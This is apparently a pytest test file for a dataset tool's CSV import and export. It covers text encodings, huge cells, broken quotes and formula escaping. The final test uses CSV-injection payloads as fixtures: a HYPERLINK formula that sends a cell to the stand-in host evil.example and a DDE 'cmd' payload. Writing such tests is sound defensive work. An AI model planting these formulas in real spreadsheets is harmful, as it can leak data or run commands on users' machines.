"""CSV files as they really come: other encodings, runaway quotes, huge cells (issue 10 item 11).
Whatever goes wrong is said with the row; nothing is imported half-read."""
from __future__ import annotations

import codecs

import pytest

from shared.csv_text import CELL_LIMIT
from shared.dataset_csv import import_csv
from shared.dataset_scan import scan_folder
from shared.errors import DatasetError

CAPTIONS = "file\tcaption\nalpha.wav\tpiano à l'aube, ☾\nbeta.wav\t静かな夜\n"


def captions(dataset) -> dict[str, str]:
    return {s.audio: s.caption for s in dataset.samples}


@pytest.mark.parametrize("encoding, bom", [
    ("utf-16-le", codecs.BOM_UTF16_LE), ("utf-16-be", codecs.BOM_UTF16_BE), ("utf-32-le", codecs.BOM_UTF32_LE),
    ("utf-32-be", codecs.BOM_UTF32_BE), ("utf-16-le", b""),  # Excel's "Unicode text", with and without a BOM
])
def test_utf16_and_utf32_files_import(audio_folder, tmp_path, encoding, bom):
    dataset = scan_folder(audio_folder).dataset
    path = tmp_path / "unicode.txt"
    path.write_bytes(bom + CAPTIONS.encode(encoding))
    report = import_csv(dataset, path)
    assert report.ok and report.matched == 2 and report.encoding in ("UTF-16", "UTF-32")
    assert captions(dataset)["alpha.wav"] == "piano à l'aube, ☾" and captions(dataset)["beta.wav"] == "静かな夜"


def test_shift_jis_is_refused_with_its_name_not_imported_as_mojibake(audio_folder, tmp_path):
    dataset = scan_folder(audio_folder).dataset
    before = captions(dataset)
    path = tmp_path / "sjis.csv"
    path.write_bytes("file,caption\nalpha.wav,静かなピアノのバラード\nbeta.wav,明るいポップ\n".encode("shift_jis"))
    with pytest.raises(DatasetError, match=r"not UTF-8 text; it looks like Japanese \(Shift-JIS\)"):
        import_csv(dataset, path)
    assert captions(dataset) == before


def test_windows_1252_is_read_and_said_so(audio_folder, tmp_path):
    dataset = scan_folder(audio_folder).dataset
    path = tmp_path / "excel.csv"
    path.write_bytes("file;caption\nalpha.wav;café crème, naïve – déjà vu\n".encode("cp1252"))
    report = import_csv(dataset, path)
    assert report.ok and report.encoding == "Windows-1252" and "read as Windows-1252" in report.notes[0]
    assert captions(dataset)["alpha.wav"] == "café crème, naïve – déjà vu"


def test_a_huge_cell_is_read_and_a_runaway_one_refused(audio_folder, tmp_path):
    dataset = scan_folder(audio_folder).dataset
    path = tmp_path / "long.csv"
    lyrics = "la " * 70_000  # 210,000 characters: over the csv module's default limit of 131,072
    path.write_text(f'file,lyrics\nalpha.wav,"{lyrics}"\n', encoding="utf-8")
    assert import_csv(dataset, path).ok and dataset.samples[0].lyrics == lyrics.strip()
    path.write_text(f"file,lyrics\nbeta.wav,ok\nalpha.wav,{'x' * (CELL_LIMIT + 1)}\n", encoding="utf-8")
    with pytest.raises(DatasetError, match=r"row 3 \(line 3\): a cell holds more than 1,048,576 characters"):
        import_csv(dataset, path)
    assert dataset.samples[1].lyrics != "ok"  # nothing imported from a file read halfway


@pytest.mark.parametrize("body, row", [
    ('alpha.wav,"an unclosed caption\nbeta.wav,second\nsub/gamma.wav,third\n', 2),
    ('alpha.wav,fine\nbeta.wav,"left "open" here\nsub/gamma.wav,third\n', 3),
])
def test_an_unbalanced_quote_names_its_row(audio_folder, tmp_path, body, row):
    dataset = scan_folder(audio_folder).dataset
    before = captions(dataset)
    path = tmp_path / "quotes.csv"
    path.write_text("file,caption\n" + body, encoding="utf-8")
    with pytest.raises(DatasetError, match=rf"quotes.csv: row {row} \(line {row}\): .*quote"):
        import_csv(dataset, path)
    assert captions(dataset) == before


def test_a_closed_quote_that_swallowed_rows_is_reported(audio_folder, tmp_path):
    dataset = scan_folder(audio_folder).dataset
    path = tmp_path / "swallowed.csv"
    path.write_text('file,caption\nalpha.wav,"soft piano\nbeta.wav,bright pop\n"\nsub/gamma.wav,rock\n',
                    encoding="utf-8")
    report = import_csv(dataset, path)
    assert [(i.row, i.column) for i in report.issues] == [(2, "caption")]
    assert "look like rows of their own" in report.issues[0].message


def test_formula_cells_are_escaped_on_export_and_come_back_unchanged(audio_folder, tmp_path):
    import csv as csv_module

    from shared.dataset_csv import FORMULA_STARTS, export_csv

    dataset = scan_folder(audio_folder).dataset
    alpha, beta, gamma = dataset.samples
    alpha.caption, alpha.genre = '=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0"
    beta.lyrics, beta.custom_tag = "- first line\n- second", "@SUM(1+1)"
    gamma.caption, gamma.genre = "\tindented", "'=already quoted"
    path = export_csv(dataset, tmp_path / "labels.csv")
    with open(path, newline="", encoding="utf-8") as fh:
        cells = [cell for row in csv_module.reader(fh) for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)], "a spreadsheet would run these"
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" in cells and "''=already quoted" in cells
    fresh = scan_folder(audio_folder).dataset
    assert import_csv(fresh, path).ok
    labels = [(s.caption, s.genre, s.lyrics, s.custom_tag) for s in fresh.samples]
    gamma.caption = "indented"  # import strips the edges of every text cell, as it always did
    assert labels == [(s.caption, s.genre, s.lyrics, s.custom_tag) for s in dataset.samples]
